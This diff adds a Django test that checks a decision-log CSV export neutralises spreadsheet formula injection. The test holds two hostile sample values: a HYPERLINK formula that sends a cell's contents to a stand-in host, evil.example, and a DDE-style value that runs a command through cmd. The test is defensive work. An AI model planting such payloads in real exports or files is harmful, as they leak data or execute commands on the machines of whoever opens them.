@@ -11,7 +11,10 @@ from django.http import StreamingHttpResponse
 from rest_framework.test import APIClient
 
 from decisions.exports import LOG_CSV_FIELDS
+from decisions.models import Decision
+from decisions.services import decision_make
 from governance.roles import Role
+from tests.decisions.test_decision_log import features
 from tests.decisions.test_log_verification_api import as_user
 from tests.decisions.test_replay_sample import logged  # noqa: F401 (a fixture)
 
@@ -65,6 +68,27 @@ def test_an_auditor_exports_the_selected_decisions_oldest_first(logged, auditor)
     )
     odd = as_user(auditor).get(URL, {"format": "csv", "customer_id": 'c/3 "x"'})
     assert odd["Content-Disposition"] == 'attachment; filename="decisions-c_3_x_.csv"'
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(
+    logged,  # noqa: F811
+    auditor,
+    api_client_user,
+):
+    """A client's customer id or channel is the client's text: opened in a spreadsheet, it
+    must not run (CSV injection). Numbers stay numbers."""
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    decision_make(
+        actor=api_client_user,
+        deployment="cross-sell",
+        customer_id=hostile,
+        channel="@SUM(1+1)*cmd|' /C calc'!A0",
+        features=features(3),
+    )
+    [row] = rows_of(as_user(auditor).get(URL, {"format": "csv", "customer_id": hostile}))
+    assert row["customer_id"] == "'" + hostile
+    assert row["channel"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert float(row["value"]) == Decision.objects.get(customer_id=hostile).value
 
 
 def test_a_client_exports_only_its_own_decisions(logged, make_user):  # noqa: F811
